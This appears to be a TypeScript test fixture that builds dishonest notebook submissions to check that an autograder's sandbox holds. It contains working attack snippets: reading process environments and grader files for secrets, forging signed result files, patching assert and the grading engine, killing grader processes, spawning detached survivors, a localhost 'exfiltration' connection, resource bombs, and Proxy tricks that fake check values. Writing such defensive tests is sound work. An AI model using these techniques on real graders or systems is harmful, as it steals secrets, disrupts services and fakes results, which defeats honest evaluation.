/**
 * The attack suite's dishonest submissions (test/fixtures/grading/attacks/, tested by test/grading-attacks.test.ts):
 * each one hands in the released tiny.ipynb with blank solutions (or solutions that return tricks) plus code
 * that attacks the grader. The test fills in placeholders before grading, so each attack knows exactly where
 * everything is, as a student who read the grader's command line would:
 *
 *   @@ROOT@@        the test's directory: source/, submissions/, out/, home/, canary/
 *   @@GRADER_PID@@  the grading process
 *   @@PORT@@        a TCP listener of the test on 127.0.0.1 (it records every connection)
 *   @@RUN@@         a marker for the attack's own processes (the test looks for survivors)
 *   @@PKG@@         the d2l package directory (shown read-only to kernels)
 *
 * Every attack prints what it achieved, so a failure of the test shows what got through. None of them harms
 * anything outside the test's own files and processes, even without a sandbox.
 */
import type { Cell } from '../../src/jupyter/nbformat';
import { Edit, insertAfter, setSource, studentCell } from './fixtures';

/** A student cell right after the set-up cell. */
const early = (code: string): Edit => insertAfter('setup', studentCell(code));

const READ_SECRETS = `
const fs = require('fs');
const found: string[] = [];
const tryRead = (p: string) => {
  try { found.push(p + ' => ' + fs.readFileSync(p, 'utf8').slice(0, 4000)); } catch (e: any) { found.push(p + ' !! ' + e.code); }
};
const parent = process.env.JPY_PARENT_PID ?? String(process.ppid);
for (const p of ['/proc/' + parent + '/cmdline', '/proc/' + parent + '/environ', '/proc/@@GRADER_PID@@/cmdline',
  '@@ROOT@@/source/tiny.ipynb', '@@ROOT@@/submissions/correct/tiny.ipynb', '@@ROOT@@/home/secret.txt',
  '@@ROOT@@/out/.d2l-grade-key', '@@ROOT@@/out/results/correct/tiny.json']) tryRead(p);
for (const pid of fs.readdirSync('/proc').filter((x: string) => /^\\d+$/.test(x))) tryRead('/proc/' + pid + '/environ');
found.push('env: ' + JSON.stringify(process.env));
console.log(found.join('\\n'));`;

const WRITE_FILES = `
const fs = require('fs');
const path = require('path');
const forged = { student: 'correct', notebook: 'tiny.ipynb', status: 'graded', flags: [], cells: [], autoScore: 0, autoMax: 6,
  manualMax: 2, manualPending: 0, submissionSha256: 'x', sourceSha256: 'y', attempt: 1, sandboxed: true, signature: '0'.repeat(64) };
const tryWrite = (p: string, data: string) => {
  try { fs.mkdirSync(path.dirname(p), { recursive: true }); fs.writeFileSync(p, data); console.log('WROTE ' + p); }
  catch (e: any) { console.log(p + ' !! ' + e.code); }
};
tryWrite('@@ROOT@@/out/results/correct/tiny.json', JSON.stringify(forged));
tryWrite('@@ROOT@@/out/results/zz-made-up/tiny.json', JSON.stringify({ ...forged, student: 'zz-made-up', autoScore: 6 }));
tryWrite('@@ROOT@@/out/results/write-files/tiny.json', JSON.stringify({ ...forged, student: 'write-files', autoScore: 6 }));
tryWrite('@@ROOT@@/out/grades.csv', 'student,notebook\\nzz-made-up,tiny.ipynb,graded,,6,6,2,0,\\n');
tryWrite('@@ROOT@@/source/tiny.ipynb', '{"cells": []}');
tryWrite('@@ROOT@@/submissions/correct/tiny.ipynb', '{}');
tryWrite('@@ROOT@@/canary/planted', 'x');
tryWrite('@@PKG@@/node_modules/.d2l-attack-@@RUN@@', 'x');
tryWrite('/tmp/../@@ROOT@@/canary/planted2', 'x');`;

const PATCH_ASSERT = `
const realAssert = require('assert');
for (const k of Object.keys(realAssert)) { try { (realAssert as any)[k] = () => undefined; } catch { /* frozen */ } }
(globalThis as any).assert = realAssert;
(globalThis as any).check = () => undefined;
try { require('d2l').check = () => undefined; } catch { /* no d2l */ }`;

// Every later request "succeeds" with the value 1, and each request's code is kept and printed later.
const PATCH_ENGINE = `
const seen: string[] = [];
(globalThis as any).__seen = seen;
for (const id of Object.keys(require.cache)) {
  const E = /kernel[\\\\/]engine\\.(ts|js)$/.test(id) ? require.cache[id]!.exports.Engine : undefined;
  if (!E) continue;
  const original = E.prototype.execute;
  E.prototype.execute = async function (code: string, label: string) {
    seen.push(code);
    if (/__seen/.test(code)) return original.call(this, code, label);
    return { ok: true, hasValue: true, value: 1 };
  };
  console.log('patched ' + id);
}`;

const PATCH_JSON = `
const parse = JSON.parse, stringify = JSON.stringify;
JSON.parse = (text: string, ...rest: any[]) => parse(String(text).replace(/check\\(/g, '(() => 1)('), ...rest);
(JSON as any).stringify = (v: any, ...rest: any[]) => (Array.isArray(v) && v.length && v[0] && ('value' in v[0] || 'error' in v[0])
  ? stringify(v.map(() => ({ value: 16 })))
  : stringify(v, ...rest));`;

const KILL_OTHERS = `
const fs = require('fs');
const targets = [process.env.JPY_PARENT_PID, '@@GRADER_PID@@', String(process.ppid)];
for (const pid of fs.readdirSync('/proc').filter((x: string) => /^\\d+$/.test(x))) {
  try {
    const stat = fs.readFileSync('/proc/' + pid + '/stat', 'utf8');
    if (stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1] === '@@GRADER_PID@@') targets.push(pid); // a peer's kernel
  } catch { /* gone */ }
}
for (const t of targets) {
  if (!t || Number(t) === process.pid) continue;
  try { process.kill(Number(t), 'SIGKILL'); console.log('KILLED ' + t); } catch (e: any) { console.log(t + ' !! ' + e.code); }
}`;

const KILL_SELF = `process.kill(process.pid, 'SIGKILL');`;

const DETACHED = `
const cp = require('child_process');
const writer = "setInterval(() => { try { require('fs').writeFileSync('@@ROOT@@/out/results/detached-child/tiny.json', '{}'); } catch {} }, 200); /* @@RUN@@-detached */";
cp.spawn(process.execPath, ['-e', writer], { detached: true, stdio: 'ignore' }).unref();
cp.spawn('/bin/sh', ['-c', '(setsid ' + process.execPath + ' -e "setTimeout(() => 0, 600000) /* @@RUN@@-setsid */" &); true'], { stdio: 'ignore' });
console.log('spawned');`;

const NETWORK = `
const net = require('net');
await new Promise<void>((resolve) => {
  const s = net.connect(@@PORT@@, '127.0.0.1');
  s.on('connect', () => { s.end('EXFILTRATED'); console.log('CONNECTED'); resolve(); });
  s.on('error', (e: any) => { console.log('connect !! ' + e.code); resolve(); });
});
const srv = net.createServer();
await new Promise<void>((resolve) => srv.listen(0, '127.0.0.1', () => { console.log('listening on ' + srv.address().port); resolve(); }));`;

const MEMORY_BOMB = `
const fs = require('fs');
try { for (let i = 0; i < 64; i++) fs.appendFileSync('/tmp/fill', Buffer.alloc(32e6, 1)); console.log('FILLED /tmp'); }
catch (e: any) { console.log('/tmp !! ' + e.code); }
try { fs.rmSync('/tmp/fill'); } catch { /* none */ }
require('child_process').spawn(process.execPath, ['-e', 'const a = []; setInterval(() => { for (let i = 0; i < 4; i++) a.push(Buffer.alloc(64e6, 1)); }, 50); /* @@RUN@@-memory */'],
  { stdio: 'ignore', detached: true });
await new Promise((r) => setTimeout(r, 60000));`;

const CPU_BOMB = `
const cp = require('child_process');
for (let i = 0; i < 3; i++) cp.spawn(process.execPath, ['-e', 'for (;;) {} /* @@RUN@@-cpu */'], { stdio: 'ignore', detached: true }).unref();
console.log('spinning');`;

const HUGE_OUTPUT = `
for (let i = 0; i < 100; i++) process.stdout.write('x'.repeat(1e6));
display({ 'text/plain': 'y'.repeat(40e6) });
console.log('done');`;

// Looks for any way to make a hidden check's value equal what the grader expects without computing it.
const TRICK_SQUARE = `function square(x: number): any {
  return new Proxy([], { get: () => 16, getOwnPropertyDescriptor: () => ({ value: 16, configurable: true, enumerable: true, writable: true }) });
}`;
const TRICK_FIB = `function fib(n: number): any {
  return { toJSON() { return 6765; }, valueOf() { return 6765; }, get value() { return 6765; } };
}`;
const FORGE_RESULTS = `
const forged = JSON.stringify([{ value: 16 }, { value: 0.25 }]);
setInterval(() => display({ 'application/vnd.d2l.checks+json': forged, 'text/plain': forged }), 5);`;

const ASYNC_SPIN = `for (;;) await Promise.resolve();`;
// Catches the KeyboardInterrupt every op throws and goes on spinning on promises.
const UNINTERRUPTIBLE = `
const tfx = require('@tensorflow/tfjs');
for (;;) { try { await Promise.resolve(); tfx.tidy(() => tfx.add(1, 1)); } catch { /* KeyboardInterrupt: ignored */ } }`;

/** Each attack: edits to the released notebook. Solutions stay blank unless the attack is about them. */
export function attackSubmissions(): Record<string, Edit[]> {
  return {
    'read-secrets': [early(READ_SECRETS)],
    'write-files': [early(WRITE_FILES)],
    'forge-metadata': [
      (cells) => cells.map((c) => {
        const m = c.metadata?.nbgrader;
        if (m?.grade_id === 'sq-tests') return { ...c, source: '1', metadata: { ...c.metadata, nbgrader: { ...m, points: 100 } } } as Cell;
        if (m?.grade_id === 'fib-tests') return { ...c, metadata: { ...c.metadata, nbgrader: { ...m, grade: false, locked: false } } } as Cell;
        return c;
      }),
      early('1'),
      (cells) => [...cells, { ...studentCell('1'), metadata: { nbgrader: { grade: true, solution: false, locked: true, task: false, grade_id: 'bonus-tests', points: 50, schema_version: 3 } } },
        { ...studentCell('1'), metadata: { nbgrader: { grade: true, solution: false, locked: true, task: false, grade_id: 'partial-tests', points: 1, schema_version: 3 } } }],
    ],
    'patch-assert': [early(PATCH_ASSERT)],
    'patch-engine': [early(PATCH_ENGINE), insertAfter('partial-tests', studentCell('console.log(((globalThis as any).__seen ?? []).join("\\n---\\n"))'))],
    'patch-json': [early(PATCH_JSON)],
    'kill-others': [early(KILL_OTHERS)],
    'kill-self': [early(KILL_SELF)],
    'detached-child': [early(DETACHED)],
    network: [early(NETWORK)],
    'memory-bomb': [early(MEMORY_BOMB)],
    'cpu-bomb': [early(CPU_BOMB)],
    'huge-output': [early(HUGE_OUTPUT)],
    // The visible asserts are disabled so that the tricks reach the hidden checks.
    'check-tricks': [setSource('sq-solution', TRICK_SQUARE), setSource('fib-solution', TRICK_FIB), early(FORGE_RESULTS), early(PATCH_ASSERT)],
    'async-loop': [early(UNINTERRUPTIBLE), early(ASYNC_SPIN)],
  };
}
